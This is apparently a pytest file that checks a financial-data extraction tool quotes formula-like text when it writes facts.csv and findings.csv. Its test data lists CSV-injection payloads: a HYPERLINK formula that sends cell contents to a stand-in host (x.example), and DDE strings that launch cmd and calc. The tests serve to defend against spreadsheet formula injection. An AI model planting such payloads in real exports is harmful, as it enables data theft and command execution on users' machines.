"""facts.csv and findings.csv open in a spreadsheet without running a label as a formula."""
import csv
import subprocess
import sys

import pandas as pd
import pytest

from iijdesk.core import facts as F
from iijdesk.core import reconcile
from iijdesk.core.csv_cells import escape, unescape
from iijdesk.core.reconcile.report import write_findings_csv
from tests.conftest import DATA, GOLD, release

# (a text's line breaks are normalised away when a release is read, so no cell holds a "\r")
PAYLOADS = ['=HYPERLINK("http://x.example/?q="&A1,"Revenues")', "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1"]


@pytest.mark.parametrize("text", PAYLOADS + ["\r=1+1", "'=already quoted", "''@twice"])
def test_formula_like_text_is_quoted_and_reads_back_exactly(text):
    assert escape(text).startswith("'")
    assert unescape(escape(text)) == text


@pytest.mark.parametrize("text", ["-4.9", "(4.9%)", "+16.5", "-1,234", "(4,100)", "-.5", "-", "--",
                                  "\u2014", "Total Revenues", "'quoted", ""])
def test_numbers_dashes_and_plain_text_stay_as_they_are(text):
    assert escape(text) == text and unescape(text) == text


def _cells(path):
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def test_facts_csv_quotes_formula_labels_but_not_numbers(tmp_path):
    rows = [dict(doc="r.txt", line=3, table="=cmd|' /C calc'!A0", row_label=p, parent="@parent",
                 col_label="-FY", period_end="2010-03-31", period_months=12, measure="yoy_pct",
                 unit="percent", scale=1, printed="(4.9%)" if i % 2 else "-4.9", value=-4.9, row=i, col=0)
            for i, p in enumerate(PAYLOADS)]
    df = F.normalise(pd.DataFrame(rows))
    out = tmp_path / "facts.csv"
    F.to_csv(df, out)
    got = _cells(out)
    for r, p in zip(got, PAYLOADS):
        assert r["row_label"] == "'" + p
        assert r["table"].startswith("'=") and r["parent"] == "'@parent" and r["col_label"] == "'-FY"
        assert r["value"] == "-4.9"                                # a number stays a number
        assert r["printed"] in ("-4.9", "(4.9%)")
        assert r["line"] == "3" and r["scale"] == "1" and r["period_months"] == "12"
    back = F.read_csv(out)
    assert back["row_label"].tolist() == PAYLOADS                 # read back as written
    assert back["table"].iat[0] == "=cmd|' /C calc'!A0"
    assert (back["value"] == -4.9).all()


def test_findings_csv_quotes_formula_messages_but_not_numbers(tmp_path):
    f = reconcile.empty_findings()
    f = pd.DataFrame([{**{c: None for c in f.columns}, "id": "sum:1", "rule": "items_vs_total",
                       "kind": "sum_mismatch", "severity": "error", "doc": "r.txt", "lines": "3;4",
                       "fact_ids": (1, 2), "expected": -4.9, "actual": -5.0, "difference": -0.1,
                       "message": PAYLOADS[0] + " does not add up", "fix_fact": 1, "fix_value": -4.9,
                       "expected_text": "(4.9)", "actual_text": "-5.0"}])
    out = tmp_path / "findings.csv"
    write_findings_csv(f, F.empty_facts(), out)
    (r,) = _cells(out)
    assert r["message"] == "'" + PAYLOADS[0] + " does not add up"
    assert r["expected"] == "(4.9)" and r["actual"] == "-5.0" and r["fix_value"] == "-4.9"
    assert r["lines"] == "3;4" and r["severity"] == "error" and r["fix_fact"] == "1"


def _score(path, doc):
    s = subprocess.run([sys.executable, str(DATA / "score.py"), "facts", "--gold", str(GOLD),
                        "--facts", str(path), "--docs", doc], capture_output=True, text=True, timeout=300)
    assert s.returncode == 0, s.stderr
    return s.stdout.strip().splitlines()[-1]


def test_the_scorer_reads_safe_facts_csv_as_it_read_the_plain_one(tmp_path):
    """Row labels are not scored, values are: quoting formula-like labels changes no score."""
    from iijdesk.core.workspace import Workspace
    src = release("004")
    ws = Workspace()
    ws.add_files([src])
    plain = tmp_path / "plain.csv"
    F.to_csv(ws.facts, plain)
    hostile = ws.facts.copy()
    hostile["row_label"] = [PAYLOADS[i % len(PAYLOADS)] + x for i, x in enumerate(hostile["row_label"])]
    hostile["table"] = "=" + hostile["table"]
    safe = tmp_path / "safe.csv"
    F.to_csv(hostile, safe)
    cells = _cells(safe)
    assert all(c["row_label"].startswith("'") and c["table"].startswith("'=") for c in cells)
    assert [c["value"] for c in cells] == [c["value"] for c in _cells(plain)]
    first = _score(plain, src.name)
    assert first.startswith("facts: recall 0.9")
    assert _score(safe, src.name) == first


def test_the_command_line_writes_formula_labels_quoted(tmp_path):
    src = release("004")
    lines = src.read_text(encoding="utf-8").split("\n")
    hit = [i for i, ln in enumerate(lines) if ln.startswith("Total Revenues\t")]
    assert hit
    for i in hit:
        lines[i] = "@SUM(1+1)*cmd|' /C calc'!A0" + lines[i][len("Total Revenues"):]
    copy = tmp_path / src.name
    copy.write_text("\n".join(lines), encoding="utf-8")
    out = tmp_path / "facts.csv"
    r = subprocess.run([sys.executable, "-m", "iijdesk", "extract", str(copy), "-o", str(out)],
                       capture_output=True, text=True, timeout=300)
    assert r.returncode == 0, r.stderr
    cells = _cells(out)
    labels = {c["row_label"] for c in cells} | {c["parent"] for c in cells} | {c["table"] for c in cells}
    assert not [x for x in labels if x and x[0] in "=+-@\t\r"], "a formula-like cell left unquoted"
    assert any(x.startswith("'@SUM") for x in labels)
    assert any(c["value"].startswith("-") for c in cells)            # negative values stay numbers
